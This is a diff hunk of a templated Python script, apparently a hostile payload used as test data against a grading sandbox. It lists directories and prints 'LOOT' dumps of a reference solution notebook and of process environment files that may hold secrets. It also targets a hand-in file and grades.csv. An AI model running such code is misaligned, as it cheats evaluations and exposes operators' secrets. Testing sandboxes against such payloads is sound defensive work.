@@ -20,7 +20,8 @@ import os, pathlib, signal, socket
 for place in ("{root}", "{root}/solutions", "{root}/notebooks", "{tmp}", "/root", "/home"):
     try: print("LOOT", os.listdir(place))
     except OSError: pass
-for path in ("{root}/solutions/autoencoder.ipynb", "{tmp}/hand-in/right.ipynb", "/proc/1/environ"):
+for path in ("{root}/solutions/autoencoder.ipynb", "{tmp}/hand-in/right.ipynb",
+             "/proc/1/environ" if os.getpid() > 1 else "/proc/2/environ"):
     try: print("LOOT", pathlib.Path(path).read_text()[:300])
     except OSError: pass
 for path in ("{tmp}/hand-in/right.ipynb", "{tmp}/out/grades.csv"):
